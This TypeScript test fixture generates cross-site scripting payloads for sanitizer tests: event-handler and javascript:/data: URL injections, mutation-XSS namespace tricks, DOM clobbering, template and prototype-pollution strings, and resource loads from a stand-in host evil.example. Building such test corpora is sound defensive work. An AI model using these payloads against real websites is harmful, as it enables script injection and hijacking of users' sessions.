/** The effect of an injected script; no own code does this. */
const act = 'window.hacked=1';
/** Unquoted, because a quote would end an attribute or address. */
const image = `<img src=x onerror=${act}>`;

/** Injection vectors: event handlers, addresses, foreign namespaces, and texts that change when parsed twice. */
const ways = [
  image,
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s></svg>`,
  `<a href="java\tscript:${act}">点我</a><a href="&#106;avascript:${act}">点我</a><a href="data:text/html,<script>${act}</script>">点我</a>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>`,
  `<form action="javascript:${act}"><button>点我</button><input name=attributes><input name=nodeName></form>`,
  `<button formaction="javascript:${act}">点我</button><input autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}><summary>点我</summary></details>`,
  `<video><source onerror=${act}></video><audio src=x onerror=${act}></audio>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replace('<', '&lt;').replace('>', '&gt;')}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<noscript><p title="</noscript>${image}">`,
  `<style>@import 'https://evil.example/x.css';*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<object data="javascript:${act}"></object><embed src="https://evil.example/x.swf">`,
  `<img src="https://evil.example/x.gif" srcset="https://evil.example/y.gif 1x"><p style="background:url(https://evil.example/z)">盖</p>`,
  `<p id=app>冒充</p><img name=getElementById><a id=hacked href=cid:x>x</a><form id=__HAOZHAN__>`,
  `<template><script>${act}</script></template><xmp>${image}</xmp><plaintext>${image}`,
  `<svg><script href="data:,${act}"/><use href="data:image/svg+xml,<svg id=x onload=${act}>#x"/></svg>`,
];
const places: readonly ((way: string) => string)[] = [
  (way) => way,
  (way) => `<p>前<b>${way}`,
  (way) => `<table><tr><td>${way}</table>`,
  (way) => `<svg><foreignObject>${way}</foreignObject></svg>`,
  (way) => `<math><annotation-xml encoding="text/html">${way}</annotation-xml></math>`,
  (way) => `<blockquote><ul><li>${way}</li>`,
];

/** XS1: HTML that an operator's text might contain. */
export const hostileHtml = places.flatMap((place) => ways.map(place));

/** XS3: text that a user might enter into any field, short enough for a name where `short`. */
const words = [
  image,
  `<svg/onload=${act}>`,
  `"><script>${act}</script>`,
  `'-${act}-'`,
  `javascript:${act}`,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  '<!--<p>',
  ']]><b>粗</b>',
  '&lt;script&gt;&#x3c;b&#x3e;',
  '<a href=//evil.example>点我领红包</a>',
  '\u202E反着写\u202C',
  '__proto__',
  '</textarea><img src=x>',
  '<style>*{display:none}</style>',
];
const around: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => `正常的话${word}`,
  (word) => `${word}正常的话`,
  (word) => word.toUpperCase(),
  (word) => `«${word}»`,
  (word) => `${word} ${word}`,
];
export const hostileText = around.flatMap((wrap) => words.map(wrap));

/** XS5: possible query parameters. */
export const hostileParameters = [...words, ...words.map((word) => `王者${word}`)];

/** All of them with TEST_LONG, otherwise a deterministic tenth spread over them. */
export const chosen = <T>(all: readonly T[]): readonly T[] =>
  process.env.TEST_LONG ? all : all.filter((_, place) => place % 11 === 5);
